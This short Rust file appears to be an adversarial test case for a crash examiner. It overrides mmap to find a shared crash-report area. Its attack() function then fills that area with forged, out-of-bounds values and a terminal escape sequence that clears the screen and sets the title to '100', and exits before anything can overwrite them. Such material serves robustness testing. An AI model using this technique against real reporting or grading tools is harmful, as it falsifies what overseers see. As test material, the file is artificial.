// What the examiner reads after a crash was written by the process that crashed. Its own mmap tells where.
// on: reference
// in: pop
// at: home
// earns: 76

unsafe extern "C" {
    fn syscall(number: i64, at: usize, len: usize, access: i32, kind: i32, fd: i32, offset: i64) -> usize;
}

const SYS_MMAP: i64 = if cfg!(target_arch = "x86_64") { 9 } else { 222 };
const SYS_EXIT_GROUP: i64 = if cfg!(target_arch = "x86_64") { 231 } else { 94 };

static NOTE: core::sync::atomic::AtomicUsize = core::sync::atomic::AtomicUsize::new(0);

#[unsafe(no_mangle)]
pub extern "C" fn mmap(at: usize, len: usize, access: i32, kind: i32, fd: i32, offset: i64) -> usize {
    let place = unsafe { syscall(SYS_MMAP, at, len, access, kind, fd, offset) };
    if kind == 1 && offset == 0 {
        NOTE.store(place, core::sync::atomic::Ordering::Relaxed);
    }
    place
}

fn attack() {
    let note = NOTE.load(core::sync::atomic::Ordering::Relaxed);
    let words = core::ptr::with_exposed_provenance_mut::<u64>(note);
    unsafe {
        // A panic whose message is longer than the note, and places far outside.
        words.write_volatile(1);
        words.add(8).write_volatile(u64::MAX);
        words.add(4096).write_volatile(1 << 60);
        // Then one that a terminal obeys.
        words.add(9).cast::<[u8; 15]>().write_volatile(*b"\x1b[2J\x1b]0;100\x07\xff\xfe\n");
        words.add(8).write_volatile(15);
        // Nothing that could write over it comes after this.
        syscall(SYS_EXIT_GROUP, 0, 0, 0, 0, 0, 0);
    }
}
